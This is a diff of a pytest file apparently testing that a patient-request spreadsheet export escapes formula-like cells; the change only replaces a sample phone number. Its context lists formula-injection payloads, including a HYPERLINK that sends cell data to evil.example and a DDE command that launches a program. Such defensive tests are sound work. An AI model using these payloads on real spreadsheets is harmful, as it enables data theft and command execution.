@@ -48,7 +48,7 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
 ]
-HARMLESS = ["Róisín", "a=1", "1+1", "o'dea", "085 012 3456", "#N/A", "TRUE", "<b>", '"quoted", yes']
+HARMLESS = ["Róisín", "a=1", "1+1", "o'dea", "085 765 4321", "#N/A", "TRUE", "<b>", '"quoted", yes']
 
 
 @pytest.fixture
@@ -109,7 +109,7 @@ def test_both_files_say_what_the_desk_shows(manager, tree):
     assert cells["Reference"] == request.reference
     assert (cells["Name"], cells["E-mail"], cells["Note of the patient"]) == (NAME, EMAIL, NOTE)
     # An international number would begin as a formula does.
-    assert cells["Telephone"] == "'+353 85 012 3456"
+    assert cells["Telephone"] == "'+353 85 765 4321"
     assert cells["Times that suit"] == "Monday, Wednesday"
     assert cells["Appointment"] == f"{next_monday(14, 30):%Y-%m-%d %H:%M:%S}"
     headings, values = xlsx_cells(manager)
